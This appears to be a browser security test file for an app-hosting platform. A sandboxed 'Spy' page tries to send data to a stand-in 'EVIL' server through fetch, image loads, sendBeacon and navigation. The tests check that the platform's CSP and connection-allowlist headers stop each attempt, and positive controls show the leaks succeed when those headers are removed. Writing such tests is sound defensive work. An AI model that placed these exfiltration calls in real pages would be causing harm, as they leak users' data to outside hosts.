import { mkdtemp } from 'node:fs/promises';
import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { GadgetProxy } from '@gantry/proxy';
import type { InstanceAnswer } from '@gantry/wire';
import { type Browser, chromium, type Page } from '@playwright/test';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { registerApp } from './register-app.ts';
import { openSite, secretKey, writeFiles } from './site.ts';

// An app that loads permitted files and tries to send data elsewhere, in a real browser.
const page = `<!doctype html><title>Spy</title><link rel="stylesheet" href="style.css">
  <script>
    const say = (word) => parent.postMessage(word, '*');
    addEventListener('securitypolicyviolation', (event) => say('refused ' + event.effectiveDirective));
  </script>
  <script src="/gantry/osapi.js"></script><script type="module" src="module.js"></script>
  <img src="picture.svg" onload="say('picture')"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>" onload="say('data')">
  <script>
    say('origin ' + origin);
    fetch('EVIL/fetch').catch(() => say('no fetch'));
    new Image().src = 'EVIL/image';
    navigator.sendBeacon('EVIL/beacon');
  </script>
  <script>addEventListener('message', () => { location.href = 'EVIL/navigation?everything'; });</script>`;

let browser: Browser;
let evil: Server;
let reached: string[] = [];
const servers: Server[] = [];

beforeAll(async () => {
  evil = await listen((request, response) => {
    reached.push(request.url ?? '');
    response.end('thanks');
  });
  browser = await chromium.launch({
    executablePath: process.env.GANTRY_CHROMIUM ?? '/usr/bin/chromium',
    args: ['--no-sandbox'],
  });
});
afterAll(async () => {
  await browser.close();
  for (const server of servers) server.close();
});

async function listen(listener: RequestListener): Promise<Server> {
  const server = createServer(listener);
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
}

function portOf(server: Server): number {
  return (server.address() as AddressInfo).port;
}

/**
 * Serves a container's page and the proxy, optionally without some of the app's headers, and mounts
 * the app.
 */
async function mount(appsHost: string | undefined, without: readonly string[] = []) {
  reached = [];
  let proxy: GadgetProxy | undefined;
  const server = await listen(async (request, response) => {
    const url = new URL(request.url ?? '', `http://${request.headers.host}`);
    const answer =
      url.pathname === '/' || proxy === undefined
        ? new Response('<script>heard = []; onmessage = (event) => heard.push(event.data)</script>')
        : await proxy.handle(new Request(url, { headers: { cookie: request.headers.cookie ?? '' } }));
    const headers = new Headers(answer.headers);
    for (const name of without) headers.delete(name);
    if (url.pathname === '/') headers.set('Content-Type', 'text/html');
    response.writeHead(answer.status, Object.fromEntries(headers)).end(Buffer.from(await answer.arrayBuffer()));
  });
  const publicUrl = `http://localhost:${portOf(server)}`;
  const site = await openSite({
    publicUrl,
    ...(appsHost && { appsHost: appsHost.replace('PORT', String(portOf(server))) }),
  });
  proxy = site.proxy;
  const folder = await mkdtemp(join(tmpdir(), 'gantry-spy-'));
  await writeFiles(folder, {
    'index.html': page.replaceAll('EVIL', `http://127.0.0.1:${portOf(evil)}`),
    'module.js': "import './nested.js'; say('module');",
    'nested.js': "say('nested');",
    'style.css': 'body { color: red }',
    'picture.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
  });
  const registration = { manifest: { name: 'Spy', page: 'index.html' }, consumerKey: 'k', consumerSecret: 's' };
  await registerApp(site.db, secretKey, { id: 'spy', folder, ...registration });

  const response = await site.post(`${publicUrl}/gantry/instances`, [{ app: 'spy' }], { origin: publicUrl });
  const [answer] = (await response.json()) as InstanceAnswer[];
  if (!answer || !('ok' in answer)) throw new Error('no instance');
  const tab = await browser.newPage();
  await tab.goto(publicUrl);
  await tab.evaluate(({ document: source, sandbox }) => {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', sandbox);
    frame.src = source;
    document.body.append(frame);
  }, answer.ok);
  return { tab, document: answer.ok.document };
}

const loaded = [
  'data',
  'module',
  'nested',
  'no fetch',
  'origin null',
  'picture',
  'refused connect-src',
  'refused img-src',
  'sdk',
];

test.each([
  ['opaque', undefined],
  ['one sandbox origin', 'http://sandbox.localhost:PORT'],
  ['an origin per app', 'http://*.apps.localhost:PORT'],
])('an app loads its own and the SDK, and tells nobody else (security rule 5; %s)', async (_, appsHost) => {
  const { tab, document: address } = await mount(appsHost);
  await expect.poll(() => heardBy(tab)).toEqual(loaded);

  // Its last way out: to go there itself.
  const frame = tab.frames().find((each) => each !== tab.mainFrame());
  const gone = tab.waitForEvent('framenavigated', (each) => each === frame);
  await tab.evaluate(() => window.frames[0]?.postMessage('go', '*'));
  expect((await gone).url()).toMatch(/^chrome-error:/);
  expect(reached).toEqual([]);

  await tab.goto(address); // a direct visit stays sandboxed
  await expect.poll(() => tab.evaluate(() => origin)).toBe('null');
  await tab.close();
});

test('the positive controls: without Connection-Allowlist it goes there, without CSP too it sends at once', async () => {
  const going = await mount(undefined, ['connection-allowlist']);
  await expect.poll(() => heardBy(going.tab)).toEqual(loaded);
  await going.tab.evaluate(() => window.frames[0]?.postMessage('go', '*'));
  await expect.poll(() => reached).toEqual(['/navigation?everything']);
  await going.tab.close();

  const sending = await mount(undefined, ['connection-allowlist', 'content-security-policy']);
  await expect.poll(() => reached.toSorted()).toEqual(['/beacon', '/fetch', '/image']);
  await sending.tab.close();
});

function heardBy(tab: Page): Promise<string[]> {
  return tab.evaluate(() => [...new Set((globalThis as unknown as { heard: string[] }).heard)].sort());
}
